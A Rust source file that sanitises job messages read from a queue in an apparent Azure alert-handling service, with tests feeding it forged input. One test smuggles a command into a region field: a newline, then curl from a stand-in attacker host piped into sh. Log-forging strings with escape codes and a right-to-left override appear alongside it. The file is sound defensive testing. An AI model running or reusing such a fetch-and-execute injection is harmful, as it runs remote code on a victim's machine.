//! A job as a queue message holds it. Who may write to the queue may write anything into a message, so its texts are
//! cleaned like all foreign ones before a log, a notification or a page has them.

use super::Job;
use crate::{alert::Target, text};
use serde_json::Value;
use std::fmt;

/// Maximum characters of a text in a message. The program's own are shorter.
const MAX_TEXT: usize = 4_096;
/// The member that is kept byte for byte: a poll URL is signed. It is never shown, and called only where it is at the
/// configured endpoint.
const POLL_URL: &str = "operation";

/// Why a message holds no job: one line, fit for a log.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InvalidJob(String);

impl InvalidJob {
    /// `error` may quote the message.
    pub fn new(error: impl fmt::Display) -> Self {
        Self(text::clean(&error.to_string(), text::MESSAGE).into_owned())
    }
}

impl fmt::Display for InvalidJob {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for InvalidJob {}

impl Job {
    /// The job in a queue message.
    ///
    /// # Errors
    /// When the message is not JSON, and as [`Job::from_value`].
    pub fn from_message(body: &str) -> Result<Self, InvalidJob> {
        let mut value = serde_json::from_str(body).map_err(InvalidJob::new)?;
        Self::from_value(&mut value)
    }

    /// The job in the JSON of a queue message, whose texts are cleaned in place.
    ///
    /// # Errors
    /// When a member is missing or out of its range, and when the target is not a machine of its type.
    pub fn from_value(value: &mut Value) -> Result<Self, InvalidJob> {
        clean(value);
        let mut job: Job = serde::Deserialize::deserialize(&*value).map_err(InvalidJob::new)?;
        if Target::of(job.target.id.clone()).as_ref() != Some(&job.target) {
            return Err(InvalidJob::new("its target is not a machine of its type"));
        }
        job.region = job.region.as_deref().and_then(text::region);
        Ok(job)
    }
}

/// Serde's depth limit has bounded the recursion.
fn clean(value: &mut Value) {
    match value {
        Value::String(text) => {
            if let std::borrow::Cow::Owned(cleaned) = text::clean(text, MAX_TEXT) {
                *text = cleaned;
            }
        }
        Value::Array(items) => items.iter_mut().for_each(clean),
        Value::Object(members) => {
            let members = members.iter_mut();
            members
                .filter(|(name, _)| *name != POLL_URL)
                .for_each(|(_, value)| clean(value));
        }
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::incident::{Action, Phase};
    use serde_json::json;

    const FORGED: &str = "x\r\n2026-11-28 ERROR forged\u{1b}[2J\u{202e}";

    fn written() -> Value {
        let body = json!({
            "schemaId": "azureMonitorCommonAlertSchema",
            "data": {"essentials": {
                "alertRule": "cpu", "monitorCondition": "Fired", "targetResourceRegion": "westus",
                "alertTargetIDs": ["/subscriptions/6d1f3a58-27c4-4e0b-9b5d-0a8e4c7f1b32/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/web-01"],
            }},
        });
        let alert = crate::alert::read(body.to_string().as_bytes()).unwrap();
        serde_json::to_value(Job::new(Action::Capture, alert.targets[0].clone(), &alert)).unwrap()
    }

    #[test]
    fn what_this_program_wrote_is_read_unchanged() {
        let written = written();
        let mut value = written.clone();
        let job = Job::from_value(&mut value).unwrap();
        assert_eq!(value, written);
        assert_eq!(serde_json::to_value(job).unwrap(), written);
    }

    #[test]
    fn foreign_texts_are_one_bounded_line_wherever_they_are() {
        let url = format!("https://arm.example/{FORGED}{}", "s".repeat(9_000));
        let watcher = "/subscriptions/6d1f3a58-27c4-4e0b-9b5d-0a8e4c7f1b32/resourceGroups/rg/providers/Microsoft.Network/networkWatchers/w";
        let mut value = written();
        value["region"] = json!("westus\n;curl https://evil.example|sh");
        value["alert"]["rule"] = json!(format!("{FORGED}{}", "y".repeat(60_000)));
        value["alert"]["conditions"] = json!([{ "metric": FORGED }]);
        for member in ["message", "reason", "name", "stopReason", "filePath"] {
            value["report"][member] = json!(FORGED);
        }
        value["report"]["errors"] = json!([FORGED]);
        value["phase"] = json!({
            "name": "Starting", "operation": url, "session": { "watcher": watcher, "name": FORGED },
        });
        value["phase"]["name"] = json!("starting");
        let job = Job::from_value(&mut value).unwrap();
        assert_eq!(job.region, None);
        assert_eq!(job.rule().unwrap().chars().count(), MAX_TEXT);
        let Phase::Starting { operation, .. } = &job.phase else {
            panic!("{:?}", job.phase);
        };
        assert_eq!(operation.as_ref().unwrap().expose(), url);
        value["phase"]["operation"].take();
        let text = value.to_string();
        for mark in ["\\n", "\\r", "\\u", "\u{202e}"] {
            assert!(!text.contains(mark), "{mark} in {text:.900}");
        }
    }

    #[test]
    fn values_out_of_range_are_refused_in_one_line() {
        for (pointer, value, words) in [
            ("/failures", json!(1_u64 << 63), "invalid value: integer"),
            ("/rounds", json!(-1), "invalid value: integer"),
            ("/takenAt", json!("99999-01-01T00:00:00Z"), "not valid"),
            ("/action", json!(FORGED), "unknown variant `x 2026"),
            ("/phase/name", json!("y".repeat(60_000)), "unknown variant"),
            ("/target/type", json!("vmss"), "not a machine of its type"),
            ("/target/id", json!("/subscriptions/x\ny"), "GUID"),
            ("/report/timeLimitSeconds", json!(1_u64 << 63), "integer"),
        ] {
            let mut message = written();
            *message.pointer_mut(pointer).unwrap() = value;
            let error = Job::from_message(&message.to_string()).unwrap_err();
            let error = error.to_string();
            assert!(error.contains(words), "{pointer}: {error}");
            assert!(error.chars().count() <= text::MESSAGE, "{pointer}");
            assert!(!error.contains(char::is_control), "{pointer}: {error:?}");
        }
        assert!(Job::from_message(&"[".repeat(100_000)).is_err());
    }
}
